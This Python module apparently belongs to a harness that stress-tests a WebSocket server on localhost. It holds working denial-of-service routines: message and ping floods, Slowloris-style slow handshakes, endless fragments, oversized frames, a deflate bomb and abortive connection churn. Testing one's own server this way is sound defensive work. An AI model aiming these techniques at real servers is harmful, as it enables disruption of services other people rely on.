"""What somebody may do to a server out of malice. Each takes a port and a number of seconds."""

import select
import socket
import struct
import time
import zlib
from collections.abc import Callable
from typing import NamedTuple

from attackers import Manner, Outcome, attack, repeated
from wire import PING, TEXT, client_frame, request

_UNFINISHED, _CONTINUED, _LAST, _COMPRESSED = 0x01, 0x00, 0x80, 0xC1  # first bytes of frames
_HALF_OPEN = 2_000
_FIRST_CUT = 5.0  # seconds that a handshake may take
_AT_ONCE = 100  # that hang up together when it is over
_CHURNING = 32
_FRAME_MOST = 65_536
_LINE = client_frame(TEXT, b"a flood of words, and nothing in it")
_MARKS = "e\u0301\u0302\u0303\u0304\u0305"  # what costs most to make harmless


def _fast_flood(port: int, seconds: float) -> Outcome:
    return attack(port, seconds, 50, Manner(repeated(_LINE), len(_LINE)))


def _even_flood(port: int, seconds: float) -> Outcome:
    return attack(port, seconds, 50, Manner(repeated(_LINE), len(_LINE), pace=100 * len(_LINE)))


def _fragments(port: int, seconds: float) -> Outcome:
    """Lines of 60 characters, each character in a frame of its own."""
    line = client_frame(_UNFINISHED, b"x") + client_frame(_CONTINUED, b"x") * 58 + client_frame(_LAST, b"x")
    return attack(port, seconds, 20, Manner(repeated(line), len(line)))


def _endless_fragments(port: int, seconds: float) -> Outcome:
    begin, more = client_frame(_UNFINISHED, b"x"), client_frame(_CONTINUED, b"x")
    return attack(port, seconds, 20, Manner(begin + repeated(more), len(more)))


def _large_frames(port: int, seconds: float) -> Outcome:
    frame = client_frame(TEXT, (_MARKS * _FRAME_MOST).encode()[: _FRAME_MOST // 11 * 11 - 11])
    return attack(port, seconds, 10, Manner(frame, len(frame)))


def _bombs(port: int, seconds: float) -> Outcome:
    """1 MiB of one character, deflated to about 1 KiB, in a frame that says so (RSV1)."""
    deflate = zlib.compressobj(9, wbits=-15)
    bomb = client_frame(_COMPRESSED, deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_SYNC_FLUSH)[:-4])
    return attack(port, seconds, 10, Manner(bomb, len(bomb), once=True))


def _pings(port: int, seconds: float) -> Outcome:
    ping = client_frame(PING, b"x" * 125)
    return attack(port, seconds, 10, Manner(repeated(ping), len(ping), reads=False))


def _small_pings(port: int, seconds: float) -> Outcome:
    ping = client_frame(PING, b"")
    return attack(port, seconds, 10, Manner(repeated(ping), len(ping)))


def _slowloris(port: int, seconds: float) -> Outcome:
    """A request a byte a second, on many connections; whoever is cut off begins anew."""
    outcome, asked = Outcome(), request(port)
    dripping: list[tuple[socket.socket, int]] = []
    turn = time.perf_counter()
    end = turn + seconds + _FIRST_CUT
    while turn < end:
        still: list[tuple[socket.socket, int]] = []
        for sock, place in dripping:
            try:
                sock.send(asked[place : place + 1])
                still.append((sock, place + 1))
                outcome.sent += 1
            except ConnectionError:
                outcome.endings["cut"] += 1
                sock.close()
        still += [(socket.create_connection(("127.0.0.1", port)), 0) for _ in range(_HALF_OPEN - len(still))]
        dripping = still
        turn += 1.0
        time.sleep(max(0.0, min(turn, end) - time.perf_counter()))
    for number, (sock, _) in enumerate(dripping, 1):
        sock.close()
        if number % _AT_ONCE == 0:
            time.sleep(0.01)
    return outcome


def _churn(port: int, seconds: float) -> Outcome:
    """Come, be greeted, hang up; many at the same time, and at once again."""
    outcome, asked = Outcome(), request(port)
    poll = select.epoll()
    open_now: dict[int, socket.socket] = {}

    def come() -> None:
        sock = socket.create_connection(("127.0.0.1", port))
        sock.sendall(asked)
        open_now[sock.fileno()] = sock
        poll.register(sock, select.EPOLLIN)

    for _ in range(_CHURNING):
        come()
    end = time.perf_counter() + seconds
    while time.perf_counter() < end:
        for number, _ in poll.poll(1.0):
            sock = open_now.pop(number)
            try:
                answer = sock.recv(1 << 16)
            except ConnectionError:
                answer = b""
            outcome.sent += 1
            outcome.endings[answer[9:12].decode() or "cut"] += 1
            poll.unregister(number)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # no goodbye
            sock.close()
            come()
    for sock in open_now.values():
        sock.close()
    return outcome


class Attack(NamedTuple):
    """What it is called, what the units are that it sends, and how it goes."""

    name: str
    unit: str
    run: Callable[[int, float], Outcome]


ATTACKS = (
    Attack("a flood of 50, as fast as they go", "lines", _fast_flood),
    Attack("a flood of 50, ten times what they may", "lines", _even_flood),
    Attack("2,000 handshakes of a byte a second", "bytes", _slowloris),
    Attack("20 with lines in fragments of a character", "lines", _fragments),
    Attack("20 with fragments without an end", "fragments", _endless_fragments),
    Attack("10 with texts of 64 KiB, full of marks", "frames", _large_frames),
    Attack("10 with deflated bombs", "frames", _bombs),
    Attack("10 that ping and do not read", "pings", _pings),
    Attack("10 that ping and read", "pings", _small_pings),
    Attack("32 that come and go", "connections", _churn),
)
